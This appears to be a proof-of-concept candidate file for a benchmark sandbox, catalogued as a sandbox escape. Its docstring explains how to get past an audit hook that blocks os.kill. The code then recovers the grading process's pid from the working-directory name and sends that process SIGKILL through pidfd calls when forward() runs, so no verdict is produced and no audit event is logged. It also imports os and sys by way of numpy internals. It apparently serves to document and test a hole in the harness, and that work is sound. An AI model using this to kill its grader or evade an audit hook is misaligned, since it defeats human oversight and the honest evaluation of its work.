"""S3 pidfd kill: pidfd_open + pidfd_send_signal SIGKILL the grading process; no audit event.

Sandbox escape (issue 8, class 1). The hook refuses "os.kill" and "signal.pthread_kill", not
``os.pidfd_open`` + ``signal.pidfd_send_signal``. The grading process's pid is in the sandbox directory's
name (``kbench-candidate-<pid>-...``, our cwd), so the candidate SIGKILLs the process that grades it: no
verdict at all, and in the explorer the whole app dies. Falls back to the parent's parent.
"""

from numpy.lib._utils_impl import os, sys

_sig = sys.modules["signal"]


def _grader_pid():
    parts = os.path.basename(os.getcwd()).split("-")
    if len(parts) > 2 and parts[2].isdigit():
        return int(parts[2])
    return None


def _kill():
    pid = _grader_pid()
    if pid is None or pid == os.getpid():
        return
    try:
        fd = os.pidfd_open(pid)
        _sig.pidfd_send_signal(fd, _sig.SIGKILL)
    except (OSError, AttributeError):
        pass


def forward(x, params, alloc):
    _kill()
    return alloc(x["x"].shape)
